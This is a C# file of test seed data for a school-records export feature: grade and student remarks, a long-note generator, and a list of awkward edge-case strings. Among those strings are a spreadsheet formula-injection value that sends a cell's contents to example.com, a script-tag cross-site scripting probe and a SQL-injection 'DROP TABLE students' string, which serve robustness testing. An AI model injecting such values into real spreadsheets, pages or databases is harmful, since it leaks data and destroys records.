using System.Text;

namespace ExportFunctions.Local.Seeding;

/// <summary>Free text, from ordinary to what breaks careless exports.</summary>
internal static class Remarks
{
    /// <summary>A teacher's remark on a grade.</summary>
    public static readonly string[] OnGrades =
    [
        "Very good work.",
        "Εξαιρετική εργασία!",
        "Late by two days, see e-mail.",
        "Must resit in September",
        "Oral exam; written exam pending",
        "Παρών σε όλα τα μαθήματα",
        "Improved a lot since the midterm",
        "Group project: \"Sensors & Data\"",
        "Très bien",
        "Ο βαθμός αναθεωρήθηκε",
    ];

    /// <summary>A secretary's remark on a student.</summary>
    public static readonly string[] OnStudents =
    [
        "Scholarship holder",
        "Υπότροφος ΙΚΥ",
        "Prefers e-mail, not phone",
        "Allergic to peanuts; carries medication",
        "Εκκρεμεί το απολυτήριο λυκείου",
        "Transferred from \"Lycée Léonin\", Athens",
        "Needs wheelchair access: rooms A1, A2 and B7 only",
        "Exchange student 2024–25",
        "Repeated year 2",
        "留学生",
        "Ζήτησε αναβολή, θα απαντήσουμε έως 30/9", "Father's name: Κώστας",
    ];

    /// <summary>Formula-like values, quotes, separators, line breaks, edge spaces, markup, emoji and right-to-left text.</summary>
    public static readonly string[] Awkward =
    [
        "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Click me\")",
        "=1+1",
        "@SUM(A1:A9)",
        "-5 points for lateness",
        "+1 from the tutor",
        "\t=2+3 led by a tab",
        "\r=4+5 led by a return",
        "First line\nSecond line", "Windows\r\nline break", "He said \"hello\", then left; nobody knows why", "\"", "a,b;c\td|e",
        "  two spaces before", "two spaces after  ", "", "<b>bold</b> & <script>alert(1)</script>", "Robert'); DROP TABLE students;--",
        "🎓 graduated with honours 👩‍🎓",
        "مرحبا (hello) 123",
        "שלום, עולם",
        "e\u0301 and é",
        "007",
        "1E5",
        "2024-02-30",
        "NULL",
        "50 % off — “really”",
    ];

    private static readonly string[] Sentences =
    [
        "Met with the student and both parents. ",
        "Η επόμενη συνάντηση ορίστηκε για τον Οκτώβριο. ",
        "Agreed on a plan: two extra hours a week, \"no excuses\". ",
        "Progress since then; attendance is at 92 %. ",
        "Elle a demandé un certificat de scolarité. ",
        "See also the file of the year before.\n",
    ];

    /// <summary>A note of a few thousand characters.</summary>
    public static string Long(ref SeededRandom random)
    {
        var length = random.Between(2_000, 9_000);
        var text = new StringBuilder(length + 100);
        while (text.Length < length)
            text.Append(random.Pick(Sentences));

        return text.ToString();
    }
}
